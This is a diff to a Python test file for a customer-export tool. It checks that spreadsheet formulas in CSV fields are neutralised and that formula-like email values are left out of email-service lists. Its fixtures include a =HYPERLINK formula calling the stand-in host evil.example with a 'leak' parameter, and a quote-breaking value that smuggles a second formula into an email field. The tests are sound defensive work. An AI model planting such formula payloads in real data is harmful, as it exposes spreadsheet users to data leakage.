@@ -291,6 +291,14 @@ def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path)
         "update marts.customers set first_name = chr(13) || '=1', email = '-hugo@example.com' "
         "where customer_id = 'C08'"
     )
+    # E-mail and phone columns hold whatever the CRM's free-text fields held.
+    con.execute(
+        """update marts.customers set
+            phone = '=HYPERLINK("https://evil.example/?leak", "Call us")',
+            email = '=1+1@example.com'
+        where customer_id = 'C10'"""
+    )
+    con.execute("update marts.customers set phone = '-2+3' where customer_id = 'C01'")
     con.close()
     cols = ["first_name", "last_name", "city", "loyalty_tier", "postal_code", "email", "phone"]
     cols += ["birth_date"]
@@ -309,7 +317,11 @@ def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path)
         "birth_date": "",
     }
     assert rows["C08"]["first_name"] == "'\r=1"
-    assert rows["C08"]["email"] == "-hugo@example.com"  # e-mail: data, unchanged
+    assert rows["C08"]["email"] == "-hugo@example.com"  # an address: data, unchanged
+    # Not an address, not a phone written with digits: neutralised like free text.
+    assert rows["C10"]["phone"] == '\'=HYPERLINK("https://evil.example/?leak", "Call us")'
+    assert rows["C10"]["email"] == "'=1+1@example.com"
+    assert rows["C01"].pop("phone") == "'-2+3"
     assert rows["C01"] == {  # ordinary values untouched
         "customer_id": "C01",
         "first_name": "Anna",
@@ -318,7 +330,6 @@ def test_csv_neutralises_spreadsheet_formulas_in_free_text_only(built, tmp_path)
         "loyalty_tier": "gold",
         "postal_code": "02118-1234",
         "email": " Anna.Smith@Example.com ",
-        "phone": "+1 (415) 555-2671",
         "birth_date": "1990-05-01",
     }
     # parquet is typed data, not opened in a spreadsheet: values as stored.
@@ -555,13 +566,19 @@ def test_esp_files_leave_out_and_count_customers_without_a_usable_address(
     con.execute("update marts.customers set email = null where customer_id = 'C12'")
     con.execute("update marts.customers set email = 'n/a' where customer_id = 'C11'")
     con.execute("update marts.customers set email = 'karin @example.com' where customer_id = 'C10'")
+    # Text a spreadsheet would run as a formula is no mailbox either.
+    con.execute("update marts.customers set email = '=1+1@example.com' where customer_id = 'C09'")
+    con.execute(
+        """update marts.customers set email = 'x"),HYPERLINK("evil.example@x.io'
+        where customer_id = 'C08'"""
+    )
     con.close()
     out = tmp_path / "m.csv"
     result = export_audience(built, "mail", "mailchimp", out)
     addresses = [r["Email Address"] for r in _rows(out)]
-    assert len(addresses) == result.rows == 7 and result.without_email == 3
+    assert len(addresses) == result.rows == 5 and result.without_email == 5
     assert "" not in addresses and "n/a" not in addresses
-    assert "3 without a usable e-mail address left out" in result.line()
+    assert "5 without a usable e-mail address left out" in result.line()
     # Only the customers in the file are on the ESP's list (erasure names files by it).
     logged = scalar(
         built,
@@ -569,7 +586,7 @@ def test_esp_files_leave_out_and_count_customers_without_a_usable_address(
         "where export_id = ?",
         [result.export_id],
     )
-    assert logged == ["C01", "C02", "C04", "C06", "C07", "C08", "C09"]
+    assert logged == ["C01", "C02", "C04", "C06", "C07"]
     # Other formats have nothing to count.
     assert export_audience(built, "mail", "csv", tmp_path / "c.csv").without_email == 0
 
